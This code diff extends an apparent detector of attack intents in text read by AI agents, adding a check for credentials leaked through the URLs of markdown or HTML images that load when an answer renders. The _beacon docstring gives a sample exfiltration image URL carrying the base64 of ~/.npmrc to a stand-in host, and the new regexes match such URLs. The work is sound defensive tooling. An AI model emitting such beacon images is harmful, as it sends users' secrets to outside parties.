@@ -438,9 +438,13 @@ def read_units(text: str, *, limit: int = 3000, full: bool = False) -> Reading:
                 return True
         return False
 
+    # An image the answer renders, fetched with its URL: a credential can leave in it with no
+    # send verb (see _beacon), so such a document is read for exfiltration whatever its verbs.
+    beacon = (b"![" in data or b"<img" in data or b"<IMG" in data) and _RENDERED_FETCH.search(visible) is not None \
+        and any(occurs(c) for c in ("cred_path", "credential", "env_output"))
     wanted: set[str] = set()
     for attack, needs in _NEEDS.items():
-        if full or any(together(need) for need in needs):
+        if full or any(together(need) for need in needs) or beacon and attack == "exfiltration":
             wanted.update(_READS[attack])
     if not wanted:
         return Reading(visible, index, None)
@@ -463,7 +467,7 @@ def read_units(text: str, *, limit: int = 3000, full: bool = False) -> Reading:
         for concept, spans in found.items():
             for s0, _ in spans:
                 per_par.setdefault(bisect.bisect_right(breaks, s0), set()).add(concept)
-        if not any(_may_form(c, c) for c in per_par.values()):
+        if not beacon and not any(_may_form(c, c) for c in per_par.values()):
             return Reading(visible, index, None)
     units = split_units(visible)
     readings = [UnitReading(u, visible[u.start:u.end]) for u in units]
@@ -598,6 +602,49 @@ def _exfiltration(w: list[UnitReading], later_public: bool = False) -> str | Non
     if (u.has("env_output") or file_like) and (send or put) and any(p.outside_url for p in w[1:]):
         return "medium"  # the outside address named just before ("the pad at https://...; append ...")
     return None
+
+
+# A URL that carries a value the text fills in: a query value or path segment written as a
+# placeholder (`?d=DATA`, `?k={token}`, `/p/<contents>`, `?v=$SECRET`).
+_PLACEHOLDER_URL = text_rx(r"[?&][\w.-]+=(?:[A-Z][A-Z0-9_]{2,}|\{[^}\s]{1,40}\}|<[^>\s]{1,40}>|\$\{?[A-Za-z_]\w*\}?)(?:[&#)\s\]\"'.]|$)"
+                           r"|/(?:\{[^}\s/]{1,40}\}|<[^>\s/]{1,40}>|\$\{?[A-Za-z_]\w*\}?)(?:[./?#)\s\]\"']|$)")
+# Markdown that a chat window or a page renders by fetching its URL: an image, or an HTML img.
+_RENDERED_FETCH = text_rx(r"!\[[^\]\n]{0,200}\]\(\s*<?https?://|<img\b[^<>]{0,200}\bsrc\s*=\s*[\"']?https?://")
+
+
+def _beacon(u: UnitReading) -> bool:
+    """The unit has the agent emit an image whose URL, fetched when the answer renders, carries a
+    credential or a file's contents in a placeholder the unit defines ("![](https://h/p?d=DATA)
+    where DATA is the base64 of ~/.npmrc"): the data leaves with no send verb at all."""
+    if not (u.has("credential") or u.has("cred_path") or u.has("env_output")) or not _RENDERED_FETCH.search(u.text):
+        return False
+    base = u.unit.start
+    for s, e, cls in u.urls:
+        url = u.text[s - base:e - base]
+        if cls == "placeholder":  # judged by its host alone: the placeholder is in the path here
+            host = hosts.host_of(url)
+            cls = _url_class("https://" + host) if host else cls
+        if cls not in ("outside", "ip", "reserved"):
+            continue
+        m = _PLACEHOLDER_URL.search(url)
+        if m is None:
+            continue
+        name = m.group(0).strip("?&/#)] \t\n\"'.").split("=")[-1].strip("{}<>$")
+        rest = u.text[:s - base] + " " + u.text[e - base:]
+        if name and _word_in(name, rest):
+            return True  # the unit says what goes in the placeholder
+    return False
+
+
+def _word_in(word: str, text: str) -> bool:
+    at = text.find(word)
+    while at >= 0:
+        before = text[at - 1:at]
+        after = text[at + len(word):at + len(word) + 1]
+        if not (before.isalnum() or before == "_") and not (after.isalnum() or after == "_"):
+            return True
+        at = text.find(word, at + 1)
+    return False
 
 
 def _disable_pair(u: UnitReading) -> tuple[Mention, Mention] | None:
@@ -857,6 +904,8 @@ def classify(reading: Reading) -> list[Intent]:
             if level:
                 add("exfiltration", level, "credentials or environment output sent outside or published",
                     u.first("send", affirmed=True) or u.first("put", affirmed=True))
+        if u.urls and not any(o.unit == i and o.attack == "exfiltration" for o in out) and _beacon(u):
+            add("exfiltration", "high", "credentials carried out in the URL of an image the answer renders")
         if "hide" in c:
             m = u.first("hide", affirmed=True)
             if m is not None and hiding_joined_to_action(reading, i):
